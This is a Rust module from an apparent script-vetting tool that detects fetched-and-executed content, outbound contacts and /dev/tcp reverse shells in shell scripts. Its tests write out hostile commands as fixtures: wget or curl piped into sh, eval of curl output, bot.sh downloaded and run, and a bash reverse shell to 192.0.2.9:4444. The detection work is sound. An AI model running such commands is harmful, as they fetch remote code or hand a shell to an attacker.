//! Behaviour across the statements of a script: content fetched from the network and then
//! run (piped into a shell, captured by `sh -c "$(…)"`/`eval`, or saved to a file that is
//! later executed or sourced), fixed hosts contacted without running what comes back, and
//! shells whose input and output go to a network socket (`/dev/tcp/HOST/PORT`).

use std::collections::BTreeMap;

use netvet_shell::{Invocation, Output};

use super::daemons::{base, is_shell, program};

/// Fetched content that is executed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Beacon {
    pub url: String,
    /// The fetching command: file, line and words.
    pub fetch: Invocation,
    /// How the content runs: `piped into sh`, `saved to /tmp/x and run at line 4`.
    pub how: String,
}

/// A fixed host contacted by a fetch whose content is not run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Contact {
    pub destination: String,
    pub fetch: Invocation,
}

/// A fetch: what is fetched and where it goes.
struct Fetch {
    url: String,
    /// `None`: standard output.
    saved_to: Option<String>,
}

const FETCHERS: &[&str] = &[
    "wget",
    "curl",
    "tftp",
    "atftp",
    "ftpget",
    "fetch",
    "uclient-fetch",
];

fn url_regex() -> &'static regex::Regex {
    static RE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    RE.get_or_init(|| {
        regex::Regex::new(r#"(?i)\b(?:https?|ftps?|tftp)://[^\s"'|;)]+"#).expect("valid regex")
    })
}

/// The value of `-o FILE`, `-oFILE`, `--output=FILE` or `--output FILE`.
fn option(args: &[String], short: &str, long: &str) -> Option<String> {
    for (i, a) in args.iter().enumerate() {
        if a == short || a == long {
            return args.get(i + 1).cloned();
        }
        if let Some(v) = a.strip_prefix(&format!("{long}=")) {
            return Some(v.to_string());
        }
        // Bundled short options: `-qO-`, `-sSo FILE`, `-oFILE`.
        if let Some(letter) = short.strip_prefix('-').filter(|l| l.len() == 1)
            && let Some(flags) = a.strip_prefix('-').filter(|f| !f.starts_with('-'))
            && let Some(at) = flags.find(letter)
            && flags[..at].chars().all(|c| c.is_ascii_alphabetic())
        {
            let value = &flags[at + 1..];
            return if value.is_empty() {
                args.get(i + 1).cloned()
            } else {
                Some(value.to_string())
            };
        }
    }
    None
}

/// The arguments that are not options nor the values of `with_value` options.
fn positional(args: &[String], with_value: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    let mut skip = false;
    for a in args {
        if skip {
            skip = false;
        } else if with_value.contains(&a.as_str()) {
            skip = true;
        } else if !a.starts_with('-') {
            out.push(a.clone());
        }
    }
    out
}

fn url_file_name(url: &str) -> Option<String> {
    let path = url.split(['?', '#']).next()?;
    let name = path.rsplit('/').next()?;
    (!name.is_empty() && !path.ends_with("//")).then(|| name.to_string())
}

fn fetch_of(inv: &Invocation) -> Option<Fetch> {
    let (prog, args) = program(&inv.argv)?;
    let name = base(&prog);
    if !FETCHERS.contains(&name) {
        return None;
    }
    // A word that is a URL is taken whole (it may hold expansions such as `$(…)`).
    let url = args.iter().find_map(|a| {
        let m = url_regex().find(a)?;
        Some(if m.start() == 0 {
            a.clone()
        } else {
            m.as_str().to_string()
        })
    });
    let mut saved_to = match name {
        "wget" | "uclient-fetch" => match option(&args, "-O", "--output-document") {
            Some(f) if f == "-" => None,
            Some(f) => Some(f),
            None => url.as_deref().and_then(url_file_name).map(|f| {
                match option(&args, "-P", "--directory-prefix") {
                    Some(dir) => format!("{}/{f}", dir.trim_end_matches('/')),
                    None => f,
                }
            }),
        },
        "curl" => option(&args, "-o", "--output")
            .filter(|f| f != "-")
            .or_else(|| {
                args.iter()
                    .any(|a| a == "-O" || a == "--remote-name")
                    .then(|| url.as_deref().and_then(url_file_name))
                    .flatten()
            }),
        "tftp" | "atftp" => {
            let remote = option(&args, "-r", "--remote-file");
            option(&args, "-l", "--local-file").or(remote)
        }
        // ftpget [options] HOST LOCAL [REMOTE]
        "ftpget" => positional(&args, &["-u", "-p", "-P"]).get(1).cloned(),
        _ => None,
    };
    if saved_to.is_none()
        && let Output::File(f) = &inv.output
    {
        saved_to = Some(f.clone());
    }
    let url = url.or_else(|| {
        // tftp/ftpget name a host and a remote file instead of a URL.
        let pos = positional(
            &args,
            &[
                "-r",
                "-l",
                "-b",
                "-u",
                "-p",
                "-P",
                "--remote-file",
                "--local-file",
            ],
        );
        let host = pos.first()?;
        let remote = option(&args, "-r", "--remote-file")
            .or_else(|| pos.get(2).cloned())
            .unwrap_or_default();
        let scheme = if name == "ftpget" { "ftp" } else { "tftp" };
        Some(format!(
            "{scheme}://{host}/{}",
            remote.trim_start_matches('/')
        ))
    })?;
    Some(Fetch { url, saved_to })
}

/// Whether a command runs its standard input or a string as shell code.
fn runs_code(argv: &[String]) -> bool {
    let Some((prog, _)) = program(argv) else {
        return false;
    };
    is_shell(&prog) || matches!(base(&prog), "eval" | "." | "source")
}

/// Whether `run` names the file `saved` (the same path, or the same name when either is
/// relative to a working directory the script chose).
fn same_file(saved: &str, run: &str) -> bool {
    let run = run.strip_prefix("./").unwrap_or(run);
    let saved = saved.strip_prefix("./").unwrap_or(saved);
    run == saved || ((!run.starts_with('/') || !saved.starts_with('/')) && base(run) == base(saved))
}

/// The download-and-execute chains of one script's invocations (in the order they run).
pub(crate) fn beacons(invs: &[Invocation]) -> Vec<Beacon> {
    let mut out = Vec::new();
    let mut saved: BTreeMap<String, (String, &Invocation)> = BTreeMap::new();
    for inv in invs {
        if let Some(f) = fetch_of(inv) {
            match (&f.saved_to, &inv.output) {
                (None, Output::Pipe(next)) if runs_code(next) => out.push(Beacon {
                    url: f.url,
                    fetch: inv.clone(),
                    how: format!("piped into {}", next.join(" ")),
                }),
                (None, Output::Captured(outer)) if runs_code(outer) => out.push(Beacon {
                    url: f.url,
                    fetch: inv.clone(),
                    how: format!("run by {}", outer.join(" ")),
                }),
                (Some(path), _) => {
                    saved.insert(path.clone(), (f.url, inv));
                }
                _ => {}
            }
            continue;
        }
        // A later command that runs a saved file: directly, through a shell, or sourced.
        let Some((prog, args)) = program(&inv.argv) else {
            continue;
        };
        let target = if is_shell(&prog) || matches!(base(&prog), "." | "source") {
            args.iter().find(|a| !a.starts_with('-')).cloned()
        } else {
            Some(prog.clone())
        };
        let Some(target) = target else { continue };
        if let Some((path, (url, fetch))) = saved.iter().find(|(p, _)| same_file(p, &target)) {
            out.push(Beacon {
                url: url.clone(),
                fetch: (*fetch).clone(),
                how: format!(
                    "saved to {path} and run at {}:{}",
                    crate::content::fs_path(&inv.file),
                    inv.line
                ),
            });
            let path = path.clone();
            saved.remove(&path);
        }
    }
    out
}

/// Fixed hosts contacted by fetches whose content is not run (beacons are reported apart).
pub(crate) fn contacts(invs: &[Invocation], beacons: &[Beacon]) -> Vec<Contact> {
    invs.iter()
        .filter(|inv| !beacons.iter().any(|b| &b.fetch == *inv))
        .filter_map(|inv| {
            let f = fetch_of(inv)?;
            let host = f.url.split("://").nth(1)?.split(['/', ':', '?']).next()?;
            let local = host == "localhost"
                || host.starts_with("127.")
                || host.is_empty()
                || host.contains('$');
            (!local).then(|| Contact {
                destination: f.url.clone(),
                fetch: inv.clone(),
            })
        })
        .collect()
}

/// `HOST:PORT` of a shell whose output goes to `/dev/tcp/HOST/PORT` (bash's network
/// redirection: a reverse shell).
pub(crate) fn reverse_shell(inv: &Invocation) -> Option<String> {
    let Output::File(f) = &inv.output else {
        return None;
    };
    let rest = f
        .strip_prefix("/dev/tcp/")
        .or_else(|| f.strip_prefix("/dev/udp/"))?;
    let (prog, _) = program(&inv.argv)?;
    if !is_shell(&prog) {
        return None;
    }
    let (host, port) = rest.split_once('/')?;
    Some(format!("{host}:{port}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use netvet_shell::{EvalLimits, Evaluator};

    fn invs(text: &str) -> Vec<Invocation> {
        let mut e = Evaluator::new(EvalLimits::default(), &|_| None);
        e.run_file("img!/etc/init.d/x", text, &[]);
        e.invocations
    }

    fn found(text: &str) -> Vec<(String, usize, String)> {
        beacons(&invs(text))
            .into_iter()
            .map(|b| (b.url, b.fetch.line, b.how))
            .collect()
    }

    #[test]
    fn fetch_piped_or_captured_into_a_shell() {
        assert_eq!(
            found("wget -q -O - http://203.0.113.50/ru/cmd | sh"),
            [(
                "http://203.0.113.50/ru/cmd".into(),
                1,
                "piped into sh".into()
            )]
        );
        assert_eq!(
            found("curl -fsSL https://x.example/i | /bin/bash -s -- -y").len(),
            1
        );
        assert_eq!(
            found("eval \"$(curl -s http://198.51.100.2/c)\"")[0].2,
            "run by eval $(…)"
        );
        assert!(found("curl -s http://198.51.100.2/c | grep ok").is_empty());
    }

    #[test]
    fn fetch_saved_then_run_in_later_statements() {
        let text = "cd /tmp\nwget http://198.51.100.7/bot.sh\nchmod +x bot.sh\nif true; then\n  ./bot.sh &\nfi";
        assert_eq!(
            found(text),
            [(
                "http://198.51.100.7/bot.sh".into(),
                2,
                "saved to bot.sh and run at /etc/init.d/x:5".into()
            )]
        );
        let text = "F=/var/u\ncurl -s -o $F http://198.51.100.7/u\n. $F";
        assert_eq!(
            found(text)[0].2,
            "saved to /var/u and run at /etc/init.d/x:3"
        );
        let text = "tftp -g -r p.sh -l /tmp/p 192.0.2.1\nsh /tmp/p";
        assert_eq!(found(text)[0].0, "tftp://192.0.2.1/p.sh");
        let text = "curl http://198.51.100.7/y > /tmp/y\nbusybox ash /tmp/y";
        assert_eq!(found(text).len(), 1);
        // Fetched, never run.
        assert!(
            found("wget -q http://example.org/fw.bin -O /tmp/fw.bin\nmd5sum /tmp/fw.bin")
                .is_empty()
        );
    }

    #[test]
    fn contacts_without_execution() {
        let i = invs(
            "wget -q -O /dev/null \"http://192.0.2.44/hb?id=1\"\ncurl http://127.0.0.1/x\nwget -O- http://h.example/s | sh",
        );
        let b = beacons(&i);
        let c: Vec<String> = contacts(&i, &b)
            .into_iter()
            .map(|c| c.destination)
            .collect();
        assert_eq!(c, ["http://192.0.2.44/hb?id=1"]);
    }

    #[test]
    fn shells_on_network_sockets() {
        let i = invs("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1");
        assert_eq!(reverse_shell(&i[0]).as_deref(), Some("192.0.2.9:4444"));
        let i = invs("echo hi > /dev/tcp/192.0.2.9/80");
        assert_eq!(reverse_shell(&i[0]), None);
    }
}
